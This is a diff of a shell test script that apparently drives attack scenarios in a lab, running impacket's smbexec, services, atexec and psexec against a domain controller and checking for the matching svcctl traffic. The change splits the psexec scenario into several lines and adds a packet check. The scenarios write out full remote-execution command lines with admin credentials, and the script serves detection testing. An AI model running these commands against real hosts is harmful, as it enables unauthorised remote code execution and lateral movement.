@@ -89,4 +89,8 @@ scenario_printnightmare_samba() { simple printnightmare_samba "The same at Samba
 scenario_exec_smbexec() { simple exec_smbexec "impacket's smbexec: a service is to be created over svcctl. Samba does not run it." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:remote-exec -- on_evil "$IMPACKET/smbexec.py" -share sysvol "$AS_ADMIN@$DC"; }
 scenario_exec_service() { simple exec_service "impacket's services creates a service over svcctl." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:remote-exec -- on_evil "$IMPACKET/services.py" "$AS_ADMIN@$DC" create -name labsvc -display labsvc -path 'C:\lab.exe'; }
 scenario_exec_atexec() { simple exec_atexec "impacket's atexec registers a task on the pipe atsvc, with privacy." "$IMPACKET_CALL" rpc-attack ON_SRV rpc-attack:remote-exec -- on_evil "$IMPACKET/atexec.py" "$AS_ADMIN@$SRV" whoami; }
-scenario_exec_psexec() { simple exec_psexec "impacket's psexec: looks for a share to write to, then svcctl." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:remote-exec -- on_evil "$IMPACKET/psexec.py" "$AS_ADMIN@$DC" whoami; }
+scenario_exec_psexec() {
+  simple exec_psexec "impacket's psexec: looks for a share to write to, then svcctl." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:remote-exec -- on_evil "$IMPACKET/psexec.py" "$AS_ADMIN@$DC" whoami
+  # It does not always find one.
+  shows 'svcctl.opnum == 12'
+}
